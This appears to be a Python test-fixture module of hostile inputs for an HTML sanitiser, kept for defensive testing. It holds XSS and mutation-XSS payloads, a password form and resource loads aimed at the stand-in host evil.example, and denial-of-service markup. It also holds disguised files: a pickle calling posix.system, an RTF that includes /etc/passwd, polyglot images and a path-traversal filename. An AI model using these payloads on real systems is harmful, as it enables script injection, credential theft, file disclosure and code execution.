"""Pages of HTML, and files of other kinds, that should do nothing but say their words, or be refused."""

from __future__ import annotations

from collections.abc import Callable

WORD = "<p>The customer owns the output.</p>"
EVIL = "https://evil.example/x"

ACTIVE: dict[str, str] = {
    "a script": f"<script>alert(1)</script><script src={EVIL}></script>",
    "a script never closed": f"{WORD}<script>alert(1)",
    "a script in capitals": "<SCRIPT>alert(1)</SCRIPT><ScRiPt>alert(1)</sCrIpT >",
    "a script in pieces": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "a script in a comment": "<!--><script>alert(1)</script>--><!--[if IE]><script>alert(1)</script><![endif]-->",
    "a script in CDATA": "<![CDATA[<script>alert(1)</script>]]>",
    "a script in a title": "<title><script>alert(1)</script></title></title><script>alert(1)</script>",
    "a script in a text field": "<textarea></textarea><script>alert(1)</script></textarea>",
    "a script in what is old": "<xmp><script>alert(1)</script></xmp><listing><img src=x onerror=alert(1)></listing>",
    "a script in an attribute": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "a script that mutates": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></table></math>",
    "a script in a drawing": f"<svg onload=alert(1)><script href={EVIL} /><a xlink:href=javascript:alert(1)>x</a>"
    f"</svg>",
    "a page in a drawing": "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></iframe></foreignObject>"
    "</svg>",
    "deeds on everything": "<body onload=alert(1)>"
    "<p onclick=alert(1) onmouseover=alert(1)>x<input autofocus onfocus=alert(1)>",
    "a deed without blanks": "<img/src=x/onerror=alert(1)><svg/onload=alert(1)><p/onclick=alert(1)>x",
    "a style": f"<style>@import '{EVIL}';p{{background:url({EVIL})}}</style><link rel=stylesheet href={EVIL}>",
    "a style on a word": f'<p style="background:url({EVIL});position:fixed;inset:0">word</p>',
    "pictures": f"<img src={EVIL} srcset='{EVIL} 2x'><picture><source srcset={EVIL}></picture>"
    f"<input type=image src={EVIL}>",
    "sound and film": f"<video src={EVIL} poster={EVIL} autoplay></video><audio src={EVIL}></audio><track src={EVIL}>",
    "frames": f"<iframe src={EVIL}></iframe><iframe srcdoc='<script>alert(1)</script>'></iframe>"
    f"<frameset><frame src={EVIL}>",
    "things inside": f"<object data={EVIL}></object><embed src={EVIL}><applet code=A archive={EVIL}></applet>",
    "leads away at once": f"<meta http-equiv=refresh content='0;url={EVIL}'><base href={EVIL}><base target=_top>",
    "loosens what is allowed": "<meta http-equiv=Content-Security-Policy content='default-src *'>",
    "fetches early": f"<link rel=prefetch href={EVIL}><link rel=preload as=script href={EVIL}>"
    f"<link rel=dns-prefetch href={EVIL}>",
    "a form": f"<form action={EVIL} method=post><input name=password type=password><button>Go</button></form>",
    "a form from afar": f"<button form=outer formaction={EVIL}>Go</button><input type=submit formaction={EVIL}>",
    "a form of ours": "<form action=/log-out/ method=post><button>Continue</button></form>",
    "links": f"<a href=javascript:alert(1)>a</a><a href={EVIL} ping={EVIL} target=_blank>b</a><area href={EVIL}>",
    "links in disguise": "<a href='java\tscript:alert(1)'>a</a><a href='&#106;avascript:alert(1)'>b</a>"
    "<a href='data:text/html,x'>c</a>",
    "attributes of a library": f"<p hx-get={EVIL} hx-trigger=load x-init=alert(1) data-action=x v-html=x>word</p>",
    "a template": "<template><script>alert(1)</script></template><slot></slot><x-evil></x-evil>",
    "ids of ours": "<p id=main name=csrfmiddlewaretoken class=btn>word</p><a name=document></a>",
    "words of a template": "{{ 7|add:7 }}{% include 'x' %}${7*7}<%= 7*7 %>#{7*7}",
    "escapes twice": "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt; &lt;img src=x onerror=alert(1)&gt;",
    "signs that turn": "<p>\u202eevil\u202c \u2066x\u2069 \u200bz\u200bero\ufeff \u00adsoft</p>",
}
"""Markup that would run, load or submit if it were shown as it is."""

HEAVY: dict[str, Callable[[], bytes]] = {
    "blocks in blocks": lambda: b"<div>" * 900_000 + b"word",
    "tables in tables": lambda: b"<table><tr><td>" * 300_000 + b"word",
    "one attribute": lambda: b"<p title='" + b"a" * 4_900_000 + b"'>word",
    "attributes": lambda: b"<p " + b" ".join(b"a%d=1" % n for n in range(400_000)) + b">word",
    "a name": lambda: b"<" + b"a" * 4_900_000 + b">word",
    "many names": lambda: b"".join(b"<x%d>" % n for n in range(400_000)) + b"word",
    "marks": lambda: b"&amp;" * 900_000,
    "unknown marks": lambda: b"&x" * 2_000_000,
    "a mark never closed": lambda: b"word &" + b"a" * 4_900_000,
    "breaks": lambda: b"<br>" * 1_200_000 + b"word",
    "openings": lambda: b"<" * 4_900_000,
    "comments": lambda: b"<!--" * 1_200_000 + b"word",
    "declarations": lambda: b"<!DOCTYPE " * 400_000 + b"word",
    "instructions": lambda: b"<?php " * 800_000 + b"word",
    "items": lambda: b"<ol start=999999999><li>" * 200_000 + b"word",
    "spans": lambda: b"<table><tr><td colspan=999999999 rowspan=999999999>word</td></tr></table>",
    "shorthands": lambda: b'<!DOCTYPE html [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]><p>&b; word',
    "half a letter": lambda: b'<meta charset="utf-16"><p>w\xff\xfeord',
    "hidden letters": lambda: b"<html>+ADw-script+AD4-alert(1)+ADw-/script+AD4- word",
    "a packed page": lambda: b"<html>\x1f\x8b\x08\x00" + bytes(range(256)) * 100,
}
"""Pages that cost more than they say."""

OTHERS: dict[str, bytes] = {
    "terms.exe": b"MZ\x90\x00\x03\x00\x00\x00" + bytes(range(256)) * 4,
    "terms": b"\x7fELF\x02\x01\x01" + bytes(64),
    "terms.class": b"\xca\xfe\xba\xbe\x00\x00\x00\x37" + bytes(range(64)),
    "terms.png": b"\x89PNG\r\n\x1a\n<script>alert(1)</script>" + bytes(range(256)),
    "terms.gif": b"GIF89a/*<script>alert(1)</script>*/=1;\x00",
    "terms.doc": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512),
    "terms.rtf": b"{\\rtf1{\\field{\\*\\fldinst INCLUDETEXT file:///etc/passwd}}}",
    "terms.gz": b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\x03" + bytes(20),
    "terms.7z": b"7z\xbc\xaf\x27\x1c" + bytes(40),
    "terms.rar": b"Rar!\x1a\x07\x01\x00" + bytes(40),
    "terms.db": b"SQLite format 3\x00" + bytes(100),
    "terms.pickle": b"\x80\x04\x95\x1c\x00\x00\x00\x00\x00\x00\x00\x8c\x05posix\x94\x8c\x06system\x94\x93\x94.",
    "terms.pdf": b"words that are no PDF\x00",
    "terms.docx": b"words that are no Word file\x00",
    "empty.pdf": b"",
    "terms.txt": b"\xff\xfe\x00\xd8\x00\xd8",
    "../../terms.html": b"<script>alert(1)</script>",
}
"""Files of other kinds, under names of ours."""
